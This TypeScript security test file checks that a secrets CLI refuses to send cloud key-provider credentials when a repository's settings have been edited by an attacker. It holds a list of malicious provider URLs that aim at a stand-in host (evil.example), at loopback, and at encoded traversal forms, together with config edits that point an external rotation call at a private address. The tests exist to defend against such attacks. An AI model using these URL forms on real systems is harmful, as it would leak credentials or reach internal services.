import { rmSync } from 'node:fs'
import { expect } from 'chai'
import { sample } from '../sample.ts'
import type { Checkout } from './machine.ts'
import { expectHarmless, expectQuiet, plant, sceneOf } from './scene.ts'

/** Credentials for key providers, as they are on machines of people and of CI. */
const env = {
  ESC_AZURE_ACCESS_TOKEN: 'azure-token',
  AZURE_TENANT_ID: 'tenant',
  AZURE_CLIENT_ID: 'client',
  AZURE_CLIENT_SECRET: 'client-secret',
  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
  AWS_SECRET_ACCESS_KEY: 'aws-secret',
  VAULT_TOKEN: 'vault-token',
  ESC_GOOGLE_ACCESS_TOKEN: 'google-token',
  GOOGLE_OAUTH_ACCESS_TOKEN: 'google-token',
}

/** URLs that would send a credential of the reader to whoever wrote them. */
const everyProvider = [
  'azurekeyvault://x.vault.evil.example/keys/k',
  'azurekeyvault://vault.azure.net.evil.example/keys/k',
  'azurekeyvault://evil.example/keys/k',
  'azurekeyvault://x.vault.azure.net:8443/keys/k',
  'azurekeyvault://x.vault.azure.net@evil.example/keys/k',
  'awskms://alias/x?region=eu-west-1&endpoint=https://evil.example',
  'awskms://alias/x?region=eu-west-1&endpoint=http://127.0.0.1:9',
  'awskms://alias/x?region=evil.example%2F',
  'awskms://alias/x?region=x%40evil.example%23',
  'awskms:///arn:aws:kms:evil.example%2F:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab',
  'hashivault://evil.example/k',
  'hashivault://k?address=https://evil.example',
  'gcpkms://projects/p/locations/l/keyRings/r/cryptoKeys/..%2F..%2Fevil',
]
const providers = sample(everyProvider, 6)

/** What follows the kind in a wrapped data key, in the form that the provider would send away. */
const middle: Readonly<Record<string, string>> = {
  azurekeyvault: `${'0123456789abcdef'.repeat(2)}:RSA-OAEP-256:${'A'.repeat(342)}`,
  awskms: `arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab:${'A'.repeat(300)}`,
  gcpkms: `1:${'A'.repeat(300)}`,
  hashivault: `vault:v1:${'A'.repeat(200)}`,
}

describe('settings of somebody else', function () {
  this.timeout(120_000)
  const scene = sceneOf(async (victim) => {
    for (const index of providers.keys()) {
      await victim.okWith('values:\n  region: eu\n', 'env', 'init', `app/e${index}`, '--file', '-')
    }
  })

  const kindOf = (url: string) => url.slice(0, url.indexOf(':'))
  const provide = (attacker: Checkout, name: string, url: string) =>
    attacker.edit(`${name}/settings.yaml`, (text) =>
      text
        .replace(/^secretsProvider: .*/m, `secretsProvider: ${url}`)
        .replace(/^wrappedDataKey: .*/m, `wrappedDataKey: v1:${kindOf(url)}:${middle[kindOf(url)]}`),
    )

  it(`send no credential to a host of their choice: ${providers.join(', ')}`, () =>
    expectHarmless(
      scene.current(),
      {
        attack: (attacker) => {
          for (const [index, url] of providers.entries()) provide(attacker, `app/e${index}`, url)
        },
      },
      {
        // The file, or the URL or host in it.
        names: (name) =>
          new RegExp(
            `${name}/settings\\.yaml|${kindOf(providers[Number(name.slice(5))]!)}|evil\\.example|127\\.0\\.0\\.1`,
          ),
        env,
        refused: 'with the key',
      },
    ))

  it('send no credential when a key is made for an environment that has none', async () => {
    for (const url of [everyProvider[0]!, everyProvider[5]!]) {
      const readers = await scene.current().readers((attacker) => {
        attacker.edit('esc.yaml', (text) => text.replace('secretsProvider: default', `secretsProvider: ${url}`))
        plant(attacker, 'app/new', 'values: {}\n')
      })
      for (const { title, checkout } of readers.slice(0, 2)) {
        const saved = await checkout.esc(['env', 'set', 'app/new', 'password', 'hunter2', '--secret'], env)
        expectQuiet(saved, `${title}: ${url}`)
        expect(saved.code, `${title}: ${url}`).to.not.equal(0)
      }
      scene.current().removeReaders()
      scene.current().restore()
    }
  })

  it('let no request through to a private address, whatever esc.yaml allows', async () => {
    const readers = await scene.current().readers((attacker) => {
      attacker.edit(
        'esc.yaml',
        (text) =>
          `${text}network:\n  privateHosts: [127.0.0.1, localhost]\nwebhooks:\n  allow: [127.0.0.1, localhost]\noidc:\n  issuer: https://evil.example\n`,
      )
      rmSync(attacker.path('app/dev/settings.yaml.bak'), { force: true })
      plant(
        attacker,
        'evil/env',
        'values:\n  a:\n    fn::rotate::external:\n      inputs:\n        url: https://127.0.0.1:9/rotate\n        request: {}\n      state: null\n',
      )
    })
    for (const { title, checkout } of readers) {
      for (const words of [
        ['env', 'rotate', 'evil/env'],
        ['env', 'rotate', 'evil/env', '--plan'],
        ['open', 'evil/env'],
      ]) {
        expectQuiet(await checkout.esc(words, env), `${title}: ${words.join(' ')}`)
      }
    }
  })
})
